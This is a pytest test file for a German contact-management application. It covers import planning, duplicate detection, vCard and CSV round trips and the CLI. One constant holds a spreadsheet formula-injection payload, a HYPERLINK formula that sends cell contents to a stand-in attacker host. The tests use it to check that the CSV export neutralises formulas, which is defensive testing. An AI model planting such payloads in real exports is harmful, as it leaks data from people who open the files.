"""Import planning, dry run, applying, dedupe, round trips and the CLI – on SQLite and PostgreSQL."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import delete, func, select

from kundenakte.cli_exchange import exchange_group, register
from kundenakte.core.exchange import ContactRecord, Point, read_records
from kundenakte.core.exchange.exporter import export_contacts, iter_records
from kundenakte.core.exchange.importer import apply_import, plan_import
from kundenakte.core.models import Company, Contact, IndexQueue
from tests.exchange.people import add_people

DATA = Path(__file__).parent / "data"
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'


def _counts(ka) -> tuple[int, int, int]:  # type: ignore[no-untyped-def]
    with ka.db.read() as s:
        return tuple(int(s.scalar(select(func.count()).select_from(m)) or 0) for m in (Contact, Company, IndexQueue))  # type: ignore[return-value]


def _plan(ka, records, **kw):  # type: ignore[no-untyped-def]
    with ka.db.read() as s:
        return plan_import(s, records, **kw)


def _import_file(ka, name: str, **kw):  # type: ignore[no-untyped-def]
    plan = _plan(ka, read_records((DATA / name).read_bytes(), filename=name), **kw)
    return plan, apply_import(ka, plan)


def test_dry_run_changes_nothing_and_explains(ka) -> None:  # type: ignore[no-untyped-def]
    before = _counts(ka)
    plan = _plan(ka, read_records((DATA / "outlook_de.csv").read_bytes()))
    assert _counts(ka) == before
    actions = [(i.action, i.reason) for i in plan.items]
    # no person name, only a company and its e-mail address: a company, not a contact
    assert actions[3] == ("company", "Firma ohne Ansprechpartner – wird als Firma angelegt")
    assert [a for a, _ in actions] == ["create", "create", "create", "company", "create"]
    assert "Firma „Müller & Söhne GmbH“ wird angelegt" in actions[0][1]
    assert len(plan.new_companies) == 3
    # what the file says but Kundenakte does not keep is named per record
    assert plan.items[0].not_kept == ["Region geschäftlich"]
    assert plan.items[0].describe().endswith("– nicht übernommen: Region geschäftlich")
    assert plan.summary() == ("5 Datensätze: 4 neu, 0 aktualisieren, 0 überspringen; 3 neue Firma(en). "
                              "1 Datensatz/-sätze mit nicht übernommenen Angaben.")


def test_outlook_import_companies_addresses_index_queue(ka) -> None:  # type: ignore[no-untyped-def]
    plan, result = _import_file(ka, "outlook_de.csv")
    assert (result.created, result.updated, result.skipped, result.companies_created) == (4, 0, 0, 3)
    assert _counts(ka) == (4, 3, 7)  # one queue row per new contact and company
    with ka.db.read() as s:
        contacts = {c.last_name: c for c in s.scalars(select(Contact))}
        weiss, gross, oeztuerk = contacts["Weiß"], contacts["Groß"], contacts["Öztürk"]
        company = weiss.company
        assert company is gross.company and company.name == "Müller & Söhne GmbH"
        assert (company.street, company.postal_code, company.city) == ("Hauptstraße 5", "80331", "München")
        assert company.name_folded == "mueller & soehne gmbh" and company.city_folded == "muenchen"
        assert company.phone == "+49 89 1000" and company.web == "www.mueller-soehne.de"
        # same address as the company: uses it, no own copy
        assert weiss.use_company_address and gross.use_company_address and weiss.street == ""
        # no company: own address
        assert not oeztuerk.use_company_address and oeztuerk.city == "Köln" and oeztuerk.city_folded == "koeln"
        assert weiss.name_folded == "juergen weiss" and weiss.gender == "male" and weiss.title == "Dr."
        assert oeztuerk.language == "de" and oeztuerk.company_id is None
        keys = set(s.scalars(select(IndexQueue.object_key)))
        assert f"contact:{weiss.id}" in keys and f"company:{company.id}" in keys
    ka.search.flush()
    assert _counts(ka)[2] == 0


def test_reimport_skips_duplicates_and_updates_changes(ka) -> None:  # type: ignore[no-untyped-def]
    _import_file(ka, "outlook_de.csv")
    plan = _plan(ka, read_records((DATA / "outlook_de.csv").read_bytes()))
    assert [i.action for i in plan.items] == ["skip"] * 5
    with ka.db.read() as s:
        weiss_id = s.scalar(select(Contact.id).where(Contact.last_name == "Weiß"))
        gross_id = s.scalar(select(Contact.id).where(Contact.last_name == "Groß"))
    assert plan.items[0].reason == f"Dublette: gleiche E-Mail wie Kontakt #{weiss_id} – keine Änderungen"
    # the vCard: same people, e-mail in other case, new data
    plan, result = _import_file(ka, "contacts30.vcf")
    by_name = {i.record.last_name: i for i in plan.items}
    assert by_name["Groß"].action == "skip"  # A.Gross@… in another case, nothing new
    assert by_name["Groß"].reason.startswith(f"Dublette: gleiche E-Mail wie Kontakt #{gross_id}")
    # the card brings a private e-mail address, a mobile number and a note: added, nothing replaced
    assert by_name["Weiß"].action == "update"
    assert by_name["Weiß"].reason.endswith("ändert E-Mail-Adressen, Telefonnummern, Notizen")
    assert result.updated == 1 and result.created == 3
    with ka.db.read() as s:
        weiss = s.get(Contact, weiss_id)
        assert [p.value for p in weiss.emails] == ["juergen.weiss@mueller-soehne.de", "juergen@privat.example"]
        assert [(p.value, p.kind) for p in weiss.phones] == [("+49 89 123456", "work"), ("0170 1234", "mobile")]
        assert weiss.email == "juergen.weiss@mueller-soehne.de" and weiss.phone == "+49 89 123456"
    changed = ContactRecord(last_name="Weiss", first_name="Jürgen", email="JUERGEN.WEISS@mueller-soehne.de",
                            phone="+49 89 999", city="München", gender="unknown", title="")
    plan = _plan(ka, [changed])
    (item,) = plan.items
    assert item.action == "update" and item.contact_id == weiss_id
    # "München" alone is the company's address the contact uses: no new address
    assert item.reason == f"Dublette: gleiche E-Mail wie Kontakt #{weiss_id} – ändert Telefonnummern"
    apply_import(ka, plan)
    with ka.db.read() as s:
        contact = s.get(Contact, weiss_id)
        # "Weiss" is only another spelling of "Weiß": the existing one stays; the new number is added
        assert (contact.last_name, contact.phone, contact.use_company_address) == ("Weiß", "+49 89 123456", True)
        assert contact.company.city == "München" and contact.addresses == []
        assert [p.value for p in contact.phones] == ["+49 89 123456", "0170 1234", "+49 89 999"]
        assert contact.gender == "male" and contact.title == "Dr."  # unknown and empty never overwrite
        assert contact.name_folded == "juergen weiss"
        assert contact.company.name == "Müller & Söhne GmbH"
        assert f"contact:{weiss_id}" in set(s.scalars(select(IndexQueue.object_key)))


def test_duplicate_by_name_and_company_and_namesakes(ka) -> None:  # type: ignore[no-untyped-def]
    records = [
        ContactRecord(last_name="Müller", first_name="Eva", company_name="Firma A", phone="1"),
        ContactRecord(last_name="Mueller", first_name="EVA", company_name="FIRMA A", phone="2", source="zweite"),
        ContactRecord(last_name="Müller", first_name="Eva", company_name="Firma B"),
        ContactRecord(last_name="Müller", first_name="Eva", email="eva@a.de"),
        ContactRecord(last_name="Müller", first_name="Eva", email="other@a.de"),  # a namesake
        ContactRecord(last_name="Müller", first_name="Eva", email="EVA@A.DE", phone="9"),
    ]
    plan = _plan(ka, records)
    assert [i.action for i in plan.items] == ["create", "skip", "create", "create", "create", "skip"]
    assert plan.items[1].reason == "Dublette: gleicher Name und gleiche Firma wie Datensatz 1 dieser Datei"
    assert plan.items[5].reason == "Dublette: gleiche E-Mail wie Datensatz 4 dieser Datei"
    apply_import(ka, plan)
    plan = _plan(ka, [records[1]])
    (item,) = plan.items
    assert item.action == "update" and item.changes == ["Telefonnummern"]  # "2" is added to "1"
    plan = _plan(ka, [records[1]], update_existing=False)
    assert plan.items[0].action == "skip" and "nicht aktualisiert (Telefonnummern)" in plan.items[0].reason


def test_validation_and_unknown_manager(ka) -> None:  # type: ignore[no-untyped-def]
    plan = _plan(ka, [
        ContactRecord(last_name="x" * 121),
        ContactRecord(last_name="Kurz", company_name="F" * 201),
        ContactRecord(last_name="Leer", account_manager="niemand", email="kaputt"),
        ContactRecord(first_name="Nur Vorname"),
        ContactRecord(),
    ])
    # The services' rules and words (core/services), as in the web form and the API.
    assert plan.items[0].reason == "Nachname: Höchstens 120 Zeichen."
    assert plan.items[1].reason == "Firma: Höchstens 200 Zeichen."
    # a bad e-mail address costs the address, not the contact: named, with the service's reason
    assert plan.items[2].action == "create" and plan.items[2].values["emails"] == []
    assert plan.items[2].warnings == ["Kundenbetreuer „niemand“ unbekannt – nicht zugeordnet",
                                      "E-Mail „kaputt“ nicht übernommen: Bitte eine gültige E-Mail-Adresse angeben."]
    assert plan.items[2].not_kept == ["E-Mail „kaputt“"]
    # a first name only: it becomes the last name (documented rule), with a warning
    assert plan.items[3].action == "create" and plan.items[3].record.last_name == "Nur Vorname"
    assert plan.items[3].warnings == ["kein Nachname: Vorname als Nachname übernommen"]
    assert plan.items[4].reason == "Nachname: Bitte einen Nachnamen angeben."


def test_every_field_error_of_a_record_at_once(ka) -> None:  # type: ignore[no-untyped-def]
    plan = _plan(ka, [ContactRecord(last_name="Lang", first_name="v" * 121, email="kaputt", phone="1" * 61,
                                    company_name="Neu GmbH", company_email="auch-kaputt")])
    assert plan.items[0].action == "skip"
    assert plan.items[0].reason == "Vorname: Höchstens 120 Zeichen. Firma E-Mail: Bitte eine gültige E-Mail-Adresse angeben."
    assert plan.items[0].warnings == ["E-Mail „kaputt“ nicht übernommen: Bitte eine gültige E-Mail-Adresse angeben.",
                                      f"Telefon „{'1' * 61}“ nicht übernommen: Höchstens 60 Zeichen."]
    assert not plan.new_companies


def test_existing_company_with_other_address_keeps_own_address(ka) -> None:  # type: ignore[no-untyped-def]
    with ka.db.write() as s:
        s.add(Company(name="Bäckerei Süß", street="Backstraße 1", postal_code="10115", city="Berlin"))
    plan, result = _import_file(ka, "google.csv")
    assert result.companies_created == 0
    with ka.db.read() as s:
        contacts = {c.last_name: c for c in s.scalars(select(Contact))}
        assert contacts["Weißenböck"].company.name == "Bäckerei Süß"
        assert not contacts["Weißenböck"].use_company_address and contacts["Weißenböck"].street == "Brotgasse 7"
        assert contacts["Yılmaz"].use_company_address  # no address of her own


def _people(ka) -> None:  # type: ignore[no-untyped-def]
    add_people(ka)


def _snapshot(ka) -> list[ContactRecord]:  # type: ignore[no-untyped-def]
    with ka.db.read() as s:
        return sorted(iter_records(s), key=lambda r: (r.last_name, r.first_name))


@pytest.mark.parametrize(("fmt", "version", "suffix"), [("vcard", "3.0", "vcf"), ("vcard", "4.0", "vcf")])
def test_round_trip_export_wipe_import(ka, tmp_path: Path, fmt: str, version: str, suffix: str) -> None:  # type: ignore[no-untyped-def]
    _people(ka)
    before = _snapshot(ka)
    assert len(before) == 5
    target = tmp_path / f"export.{suffix}"
    assert export_contacts(ka, target, fmt=fmt, version=version) == 5
    with ka.db.write() as s:
        s.execute(delete(Contact))
        s.execute(delete(Company))
    assert _counts(ka)[:2] == (0, 0)
    plan = _plan(ka, read_records(target.read_bytes(), filename=target.name))
    assert [i.action for i in plan.items] == ["create"] * 5, [i.reason for i in plan.items]
    apply_import(ka, plan)
    after = _snapshot(ka)
    for a, b in zip(before, after, strict=True):
        assert a == b
    assert _counts(ka)[:2] == (5, 3)
    # and importing the export once more changes nothing
    again = _plan(ka, read_records(target.read_bytes(), filename=target.name))
    assert {i.action for i in again.items} == {"skip"}


@pytest.mark.parametrize("layout", ["outlook-de", "outlook-en", "google"])
def test_csv_export_neutralises_formulas_not_phone_numbers(ka, tmp_path: Path, layout: str) -> None:  # type: ignore[no-untyped-def]
    _people(ka)
    target = tmp_path / "k.csv"
    export_contacts(ka, target, fmt="csv", layout=layout)
    raw = target.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # neither Outlook nor Google writes a BOM
    text = raw.decode("cp1252" if layout.startswith("outlook") else "utf-8")
    assert ",\"'=HYPERLINK(" in text or ",'=HYPERLINK(" in text
    assert "'+Chef" in text and "'-1" in text and "''=apostroph" in text
    # phone numbers stay as they are: Outlook and Google would keep an apostrophe in the number
    assert "+49 931 2" in text and "'+49" not in text


def test_cli_dry_run_import_export(ka, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from kundenakte.cli import Context

    obj = Context()
    obj._ka = ka
    runner = CliRunner()
    result = runner.invoke(exchange_group, ["import", str(DATA / "contacts40.vcf"), "--dry-run"], obj=obj)
    assert result.exit_code == 0, result.output
    assert "Probelauf: nichts geändert." in result.output
    assert "Karte 1 (Zeile 1): Marie Luise Köhler: neu" in result.output
    assert _counts(ka) == (0, 0, 0)
    result = runner.invoke(exchange_group, ["import", str(DATA / "contacts40.vcf")], obj=obj)
    assert result.exit_code == 0, result.output
    assert "5 Kontakt(e) angelegt" in result.output
    out = tmp_path / "alle.vcf"
    result = runner.invoke(exchange_group, ["export", str(out), "--version", "3.0"], obj=obj)
    assert result.exit_code == 0, result.output
    assert out.read_text("utf-8").count("BEGIN:VCARD") == 5 and "VERSION:3.0" in out.read_text("utf-8")
    result = runner.invoke(exchange_group, ["import", str(DATA / "google.csv"), "--mapping", "kundenakte"], obj=obj)
    assert result.exit_code != 0 and "keine Namensspalte" in result.output
    # a real import names every record with fields it does not keep
    result = runner.invoke(exchange_group, ["import", str(DATA / "outlook_de.csv")], obj=obj)
    assert result.exit_code == 0, result.output
    assert ("Zeile 2: Jürgen Weiß: neu – neu; Firma „Müller & Söhne GmbH“ wird angelegt – "
            "nicht übernommen: Region geschäftlich") in result.output
    out = tmp_path / "outlook.csv"
    result = runner.invoke(exchange_group, ["export", str(out), "--layout", "outlook-en"], obj=obj)
    assert result.exit_code == 0, result.output
    assert out.read_bytes().startswith(b'"Title","First Name","Middle Name","Last Name"')
    # what Outlook's layout cannot hold is said per contact (the card with GENDER:O)
    assert re.search(r"^Kontakt #\d+: nicht im Layout outlook-en: Geschlecht divers$", result.output, re.M), result.output

    import click

    group = click.Group("kundenakte")
    register(group)
    assert group.commands["kontakte"] is exchange_group


def test_find_match_seam_for_the_duplicate_finder(ka) -> None:  # type: ignore[no-untyped-def]
    plan, _ = _import_file(ka, "outlook_de.csv")
    with ka.db.read() as s:
        weiss_id = s.scalar(select(Contact.id).where(Contact.last_name == "Weiß"))
    asked: list[str] = []

    def find_match(session, rec):  # type: ignore[no-untyped-def]
        asked.append(rec.last_name)
        return weiss_id if rec.last_name == "Weisz" else None

    plan = _plan(ka, [ContactRecord(last_name="Weisz", first_name="J.", phone="+49 89 777"),
                      ContactRecord(last_name="Neu", first_name="Nina")], find_match=find_match)
    assert asked == ["Weisz", "Neu"]
    assert plan.items[0].action == "update" and plan.items[0].contact_id == weiss_id
    assert plan.items[0].reason.startswith(f"Dublette: laut Dublettenprüfung derselbe Kontakt wie Kontakt #{weiss_id}")
    assert plan.items[1].action == "create"


def test_organisation_and_email_only_cards_of_real_files(ka) -> None:  # type: ignore[no-untyped-def]
    corpus = Path(__file__).parent / "corpus" / "vcard"
    apple = corpus / "roundcube_apple.vcf"
    plan = _plan(ka, read_records(apple.read_bytes(), filename=apple.name))
    (item,) = plan.items
    assert item.action == "company" and "nicht übernommen: X-ABADR, PHOTO, X-ABUID" in item.describe()
    apply_import(ka, plan)
    with ka.db.read() as s:
        company = s.scalar(select(Company).where(Company.name == "Apple Computer AG"))
        assert company is not None and company.city == "Wallisellen-Zürich" and company.web == "http://www.apple.ch"
        assert [w.value for w in company.websites] == ["http://www.apple.ch"]
    assert _counts(ka)[:2] == (0, 1)
    android = corpus / "ezvcard_John_Doe_ANDROID.vcf"
    plan = _plan(ka, read_records(android.read_bytes(), filename=android.name))
    # two cards with nothing but an e-mail address: the address becomes the last name
    assert [i.record.last_name for i in plan.items[:2]] == ["john.doe@company.com", "jane.doe@company.com"]
    assert plan.items[0].warnings == ["kein Name: E-Mail-Adresse als Nachname übernommen"]
    assert all(i.action in ("create", "company") for i in plan.items), [i.describe() for i in plan.items]


def test_update_compares_entries_as_the_model_does(ka) -> None:  # type: ignore[no-untyped-def]
    _import_file(ka, "outlook_de.csv")
    # "089 123456" is Weiß's "+49 89 123456", the e-mail differs in case only: nothing new
    same = ContactRecord(last_name="Weiß", first_name="Jürgen", email="Juergen.Weiss@Mueller-Soehne.de",
                         phones=[Point("089 123456", "work", True)])
    (item,) = _plan(ka, [same]).items
    assert item.action == "skip" and item.reason.endswith("keine Änderungen"), item.reason
    other = ContactRecord(last_name="Weiß", first_name="Jürgen", email="juergen.weiss@mueller-soehne.de",
                          phones=[Point("089 123457", "work", True)])
    (item,) = _plan(ka, [other]).items
    assert item.action == "update" and item.changes == ["Telefonnummern"]


def test_update_existing_finds_what_the_duplicate_finder_finds(ka) -> None:  # type: ignore[no-untyped-def]
    """Spelled differently: the finder's rules (phonetic name + company) match where the fast ones do not."""
    apply_import(ka, _plan(ka, [ContactRecord(last_name="Meier", first_name="Hans", company_name="Seewerk GmbH",
                                              email="h.meier@seewerk.example", phone="07531 123")]))
    plan = _plan(ka, [ContactRecord(last_name="Meyer", first_name="Hans", company_name="Seewerk GmbH",
                                    phone="0171 555 0101")])
    (item,) = plan.items
    assert item.action == "update", item.reason
    # The dry run names what would change, the spelling of the file included (the user decides).
    assert "Dublettenprüfung" in item.reason and item.changes == ["Nachname", "Telefonnummern"]
    # Both with e-mail addresses and none shared: more likely namesakes (the finder scores that low).
    (namesake,) = _plan(ka, [ContactRecord(last_name="Meyer", first_name="Hans", company_name="Seewerk GmbH",
                                           email="hans.meyer@privat.example")]).items
    assert namesake.action == "create"
    # A different person at the same company is no duplicate.
    (other,) = _plan(ka, [ContactRecord(last_name="Schulz", first_name="Petra", company_name="Seewerk GmbH")]).items
    assert other.action == "create"
    with ka.db.read() as s:
        assert s.scalar(select(func.count()).select_from(Contact)) == 1
